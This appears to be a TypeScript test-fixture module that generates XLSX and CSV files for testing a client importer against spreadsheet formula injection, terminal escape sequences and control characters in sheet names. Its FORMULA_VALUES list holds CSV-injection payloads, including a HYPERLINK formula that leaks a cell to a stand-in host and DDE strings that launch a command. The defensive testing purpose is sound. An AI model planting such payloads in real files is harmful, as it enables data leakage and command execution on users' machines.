import * as XLSX from 'xlsx';
import { buildWorkbook, csvText, formulaCell, templateHeaders, type CellInput } from '../../helpers/workbook.js';
import { ESCAPES } from './badFiles.js';
import { clientRow, xlsxFrame, xmlRow } from './sheets.js';
import { packEntry, writeZip } from './zipWriter.js';

/** Sheets whose cells, headers and names try to reach the terminal or a spreadsheet program. */

/** Values a spreadsheet would run as formulas (OWASP CSV injection), each starting with one trigger. */
export const FORMULA_VALUES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+9)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

/** Characters that make a spreadsheet read a field as a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A row per escape sequence: in a text column that stays valid (name), in columns whose messages
 * name the value (country, VAT, e-mail), plus an extra column whose header carries one too.
 */
export function escapeRows(): CellInput[][] {
  const header = [...templateHeaders(), `Notes ${ESCAPES[0]}`, `V\u202EAT`];
  const rows = ESCAPES.map((e, i) => [
    ...clientRow(i, { legalName: `Acme ${e} SA`, street: `${e} 12 rue`, country: e, vatNumber: `LU${e}`, contactEmail: `x${e}@schmit.lu` }),
    e,
    e,
  ]);
  return [header, ...rows];
}

export function escapeXlsx(sheetName = 'Clients'): Uint8Array {
  return buildWorkbook([{ name: sheetName, rows: escapeRows() }], 'xlsx');
}

/** The same as CSV, among plain rows so that it stays under the binary-file threshold. */
export function escapeCsv(): Uint8Array {
  const [header, ...rows] = escapeRows();
  const plain = Array.from({ length: 300 }, (_, i) => [...clientRow(1000 + i), '', '']);
  return buildWorkbook([{ name: 'Clients', rows: [header!, ...rows, ...plain] }], 'csv');
}

/**
 * A sheet whose name holds raw control characters (which Excel would refuse, and SheetJS's writer
 * too: written by hand), with one valid client.
 */
export function controlSheetNameXlsx(name: string, rows?: readonly (readonly string[])[]): Uint8Array {
  const table = rows ?? [templateHeaders(), clientRow(1).map(csvText)];
  const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${table.map((r, i) => xmlRow(i + 1, r)).join('')}</sheetData></worksheet>`;
  return writeZip([...xlsxFrame(name), packEntry('xl/worksheets/sheet1.xml', sheet)]);
}

/** Formula-like values where reports echo them: columns with errors, a valid name, an extra header. */
export function formulaRows(): CellInput[][] {
  const header = [...templateHeaders(), '=EVIL()', '+Notes'];
  const rows = FORMULA_VALUES.map((f, i) => [
    ...clientRow(i, { legalName: f, country: f, vatNumber: f, iban: f, contactEmail: f, language: f, externalReference: f }),
    f,
    f,
  ]);
  // A real formula of the user's own, with its saved value: it must stay, and be the only one.
  rows.push([...clientRow(50, { legalName: formulaCell('"Acme"&" SA"', 'Acme SA') }), '', '']);
  return [header, ...rows];
}

export function formulaXlsx(): Uint8Array {
  return buildWorkbook([{ name: 'Clients', rows: formulaRows() }], 'xlsx');
}

/** The same values as CSV (without the real formula, which CSV cannot hold). */
export function formulaCsv(): Uint8Array {
  return buildWorkbook([{ name: 'Clients', rows: formulaRows().slice(0, -1) }], 'csv');
}

/** Every formula of a workbook, as `sheet!A1 → formula`. */
export function formulasOf(bytes: Uint8Array): Map<string, string> {
  const workbook = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
  const found = new Map<string, string>();
  for (const name of workbook.SheetNames) {
    const sheet = workbook.Sheets[name] ?? {};
    for (const [address, cell] of Object.entries(sheet)) {
      if (address.startsWith('!')) continue;
      const f = (cell as XLSX.CellObject).f;
      if (f !== undefined) found.set(`${name}!${address}`, f);
    }
  }
  return found;
}

/** RFC 4180 fields of a CSV text (quotes, doubled quotes, line breaks inside quotes). */
export function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}
